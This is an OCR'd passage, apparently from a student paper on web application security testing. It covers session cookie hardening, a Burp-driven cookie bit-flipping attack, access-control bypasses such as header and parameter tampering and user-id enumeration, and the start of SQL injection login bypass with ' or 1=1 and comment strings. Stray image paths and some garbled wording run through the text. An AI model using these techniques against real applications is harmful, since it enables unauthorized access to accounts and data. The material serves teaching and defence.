authenticates and switches to https, thesession cookie remains unchanged. A
developer should make sure that the cookie changes after the authenticated
session begins. They should also realize that issues occur when certain pages, like
an about or help page, does not get transmitted via https. A weakness like this
occurs when the user who is already authenticated with their https session,
navigates through the application and hits a page that is not forcing https. The
interceptor now has the already modified authenticated cookie. Developers must
make sure that they enforce ssl on other pages that an authenticated user may
walk through. Better yet, enforcing that the set-cookie flag Is set to secure,
enforces that the cookie will only be transmitted via https. Another issue worth
looking into is whether the web server is running any services on port 80. A
malicious attacker could induce a user to visit a url of the service running on port
80. This is more intrusive of an attack and will be covered later. When securing a
site, this is important to check regardless and a specific check of visiting a site on
the port 80 service will hopefully reveal the cookie was not transmitted.
The main components to remember are secure handling
and secure token generation. Submit tokens over https if the token, change the

token value after authentication, and limit cookie scope. It is extremely important
to set the path flags and domain scopestrictly and not liberally. This will aid in
deterring attackers from trying to hijack cookies using cross site request
forgery/cross site scripting attacks. Per page tokens should be used and are used
amongst the most secure applications. This occurs by having a token passed
through a hidden form field or cookie that changes on every request. This will
defeat XSRF. Cookies should never be passed through URL parameters as that
makes session tokens susceptible to being hijacked through logs. Finally,
concurrent sessions should be limited and flagged, a new cookie should be issued
with a new login of the same user, and the original session terminated. Speaking
of termination, a cookie should be set to timeout if the user does not explicitly
logout. If the user does logout, the server needs to terminate that session server
side, not just client side by deleting the set cookie field, but still accepting the
session if replayed by an attacker.

The bit flipping cookie attack will be demonstrated below:

The cookie is viewed, and seems to be using the CBS cipher for encryption.


We select the entire cookie as the payload field.

The bit flipping payload option should be selected.


Hundreds of requests are sent to the web application, each bit being flipped in each

The attack is successful after only 233 requests of flipping the bits every request.


Rendering the page on the bottom pane shows multiple user ids were compromised
by this bit flipping attack. The cookie is insecure and the encryption is being
bypassed. The decryption ofthe cookie is done server side. So although never
seeing the plaintext, making subtle changes in every request eventually affected
the cookies userid= field. So not only did this badly generated cookie use a weak
encryption scheme, it didnt seem to validate other parameters of the cookie.
When testing a sites cookie generation process for randomness Burp is a useful



Using Burp Sequencer, we can capture thousands of tokens from a site. BurpSequencer has built in test methods that will check the amount of randomness in
each bit the cookie. Bit-level analysis of these cookies showed major problems in
multiple bit fields, especially before the 10 th bit. This cookie generation scheme
should be rejected by an application as it fails the randomness test.

Bypassing Access Controls

When proper access controls are not implemented
correctly, even the most beefed up security mechanisms that cover code injection,
cookie management, authentication, etc, become nullified. Bypassing access
controls are seen by the authors of Web Application Hacking Handbook, in a
frequency of 71 percent. What make detecting faulty access controls so difficult? It
lies merely in the fact that for an access control to be detected as faulty, every
possible request, area, and action of a web application must be stepped through.
The first type of broken access models apply to users who are already
authenticated with a system. Vertical breaking involves a situation where a user or
group of users who are do not have certain functionality, bypass the restriction and
access such functionalities. An example of this is quite simple, and could be
illustrated as an ordinary user accessing administrative functions. Perhaps anemployee can only sign off on a certain dollar amount of investment, and a
manager must sign off on a set dollar amount that is higher than the regular

employee. If the regular employee finds a way to process a transaction above their
threshold, they have performed a vertical bypass. Horizontal bypasses can also
occur. These are described as situation where users with the same authority,
accessing the same function, are able to access more resources than they should be
able to. An example of this would be where all users are allowed to check their own
email, but one user has found a horizontal bypass that allowshim to check all user
emails. There are also context based access controls. This means that where the
applications state is logically being enforced, the user is also behaving within those
confines. For example, one could say that context basedaccess control have been
broken if a user was able to skip the payment process of a shopping cart, and go
straight to shipping options.
Situations occur where the functionality is completely unprotected. An
example of this is when web applications dynamically build the user interface
through javascript client side code. Take a lookat this example of code :
var isAdmin = false;


if (isAdmin)
{ adminMenu.addItem(/menus/secure/ff457/addNewPortalUser2.jsp,
a new user); }(Web Application Hackers Handbook)


Simply studying the language here tells us that the user is not admin, but the URL
to add new users is discoverable. If access controls are broken and unprotected like
in this case, a huge vulnerability occurs. Identifier based functions are also a cause
of concern and need to be tested for broken access controls. For instance,, has the id of a document specific to a
certain user being passed a URL parameter. An attacker would need to know the
DocViewer part of the URL, though this may not be challenging to directory bust
with brutce force methods. Finally, the fact that the parameter id seems to be
numerically generated should be looked into. If some sort of sequential pattern can
be ascertained by the attacker, this creates a problem. Access logs are a haven for
access to these application pages such as viewdocument, createUser, etc, as
well as the specific IDs associated with them. Access logs therefore need to be
protected at all costs when dealing with these issues, as it goes without saying that
URLs do not have any implied secrecy.
Multistage functions must revalidate credentials at every stage of a web
application function. For example, if a bank employee has requested funds be sent
to a certain source account, and has verified themselves, an attacker should not be
able tointercept the final stage post request and change the destination account in
a horizontal bypass. Static resources are also an issue with multistage processes. If
a user goes through every step of purchase to receive the download link to an
ebook, and the ebook download url is a static link such as
http://book/download/923434242342.pdf, an attacker can attempt to skip

purchase and just brute force numbers to get ebook download urls. If the numbers
are for example, ISDNs, it becomes even simpler.
There are numerous steps to take in securing access
controls considering every request across the app must be studied. Other methods
to test for include improper protection of the referrer header. Many web
applications will not allow ordinary users to access administrative function but fail to
do this If the user modifies the referrer header to come from an administrative
page. Location based access controls are useful as a deterrent or in combination
with other methods but also useless if used alone. A VPN, or web proxy mapped to
the proper approximate geo location of the specific user will nullify this control
check. Simple social engineering methods or recon can successfully deduce a
users basic location.
A final issue to touch up upon is correct firewall/server
configuration in relation to filtering requests to unauthorized areas of the web
application. It would be a common rule to enforce that a non-administrative
account sending an http get or more likely a post request to an administrative URL
would be blocked. Unfortunately, it is more complicated than this. What occurs in a
situation where the attacker sends a head request instead of an http-get request to
the application? If the application is not configured correctly to only allow and block
http get requests, the type of request can be altered in the intercepting proxy. Letus go over briefly again what a head request is. A head request is simply an httpget request without a return of a message body. The attacker will not care if there is
no message body return if they are able to still pass the request through the broken
access control by changing the request header and the url parameters. Perhaps,
they create a new user account, and they indeed can check this manually after the
fact, regardless whether a message body is returned or not. It is imperative
therefore, that the application level code verify what request method is being
issued, and to block offending requests that should be filtered out. Worst of all
insecure access control methods are URL parameter access control. It has been
seen in applications in the past, regardless of how blatant of an issue it is. A
common theme would be something along the lines of Manipulating the URL
parameters could allow access. This is a more obvious example, and other
examples may be much less intuitive, but if a determined attacker is able to create
many accounts, and even at some point get a higher privileged account, they can
analyze patterns or the methodology used in the passed URL parameters to bypass
access controls.Now for the attacks:


Logged in as an ordinary user at first.

We see examine the GET request header.

We simply change the GET request header(admin.ashx). If the application is

vulnerable, it will allow us access.


Application is broken.

Above we are rejected by a more secure application.


In this request, we need to not only change the GET head to admin.ashx? but
apparent an submitting an admin=true value breaks the application.The above is a useful application in Burp to use if you have white box access to the
application. BURP comparer will compare two site maps of an admin and a user.
So, step through the entire application as an admin, and then step through the
application as an ordinary user, and save the two sessions. BURPs site map
comparer will highlight if any access control are broken as it applies the same http
requests to the ordinary user. As seen above one URL accessible also was
accessible to the ordinary user.

The above is another GET request intercepted by BURP. This site has very weak
accesscontrol methods.

We attack the user id payload to harvest every user account.


According to the attack, looking at the length of bytes returned, user id 53-59 are all
accounts wecan access.
Testing for access control vulnerabilitiescan be easy or very harddepending
on the subtlety of things. With that being said, it is mandatory to step through the
application request by request, testing all low privileged accounts and their access
to vertical privileges outside the scope of authority. A mandatory design should be
a central access control checker, built into the application. Each request should be
passed through this central application, which in turn checks the users role, and
then decides if the requested URL is under the permission umbrella assigned to the
user being checked.SQL Injection
Data stores are highly vulnerable to attack and therefore
it is imperative to cover the core vulnerabilities exist. Common database functions
are to store usernames, password, credit card numbers, and other highly sensitive
data. A functioning web application is one that passes user input through the web
application and successfully fetches the appropriate content in the database, and
returns it to the user. It is understood what the function of databases are, but what
exactly makes them vulnerable to exploits? The code injection that will be focused
on in this project is SQL injection using the language of SQL. The SQL language is
an interpreter based language. More specifically, the code interacts with the web
application with use of a run time component. The interpreter therefore, receives a
mix of human instructions and code instructions to execute. With this mixing of
human supplied data, and SQL data, it is the interpreters job to separate the
different instructions and appy them correctly. The pure nature of how the SQL
language interacts with the data stores behind the web application make the exploit
known as code injection possible. There are a few different SQL database types by
MySQL will be focused on here. Proper SQL injection techniques allow an attacker to
bypass logins,add or modify data, of hijack a database completely and execute a
shell on the server.

The first attack will be a user login bypass. To fully understand the
attack a basic SQL query to fetch a username and password and return it to the web
application for login must be understand. When a user supplies the username
Shawn to the username field, and supplies the password vulnerable to the
password field box and submits the entry, the following SQL query sent to the
database would be as follows : SELECT * from users WHERE username=shawn and
password=vulnerable. The table being checked is the users table, and every row
in that users table will contains a username column. This specific SQL query is
querying for the username of shawn, and the password of vulnerable, so the if the
users table, which contains the columns of username and password, contain a
match of shawn, and vulnerable, it will be returned to the web application. In
fact, if it is not found or if the password was incorrect, it will still be returned to the
web application, but only if there was a match, willthe applications logic allow an
authenticated session to begin. As an attacker, with malicious intent we dont know
the users password though, so we really do not care about the entire SQL
statement. It is importantto know than that - - successfully comments out the
rest of an SQL statement. An attacker may want to try shawn in the username
form, and than or 1=1 in the password field. After all, or 1=1 is a true
statement but surprisingly, performing such an action validates the entire sql query
